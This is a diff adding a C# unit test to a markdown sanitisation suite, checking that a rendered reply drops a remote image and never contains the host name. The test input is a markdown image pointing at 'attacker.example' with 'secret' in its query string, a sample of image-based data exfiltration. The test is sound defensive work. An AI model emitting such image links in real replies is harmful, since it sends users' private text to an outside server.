@@ -71,6 +71,15 @@ public sealed class MarkdownSanitisationTests : BunitContext
     }
 
     [Fact]
+    public void RemoteImagesAreNotLoadedSoAReplyCannotSendTextToAnotherServer()
+    {
+        var root = Html("![chart](https://attacker.example/pixel.png?q=secret)");
+
+        root.QuerySelectorAll("img").ShouldBeEmpty();
+        root.InnerHtml.ShouldNotContain("attacker.example");
+    }
+
+    [Fact]
     public void JavascriptLinkHasNoJavascriptHref() => ShouldHaveNoJavascriptHref(Html(JavascriptLink));
 
     [Fact]
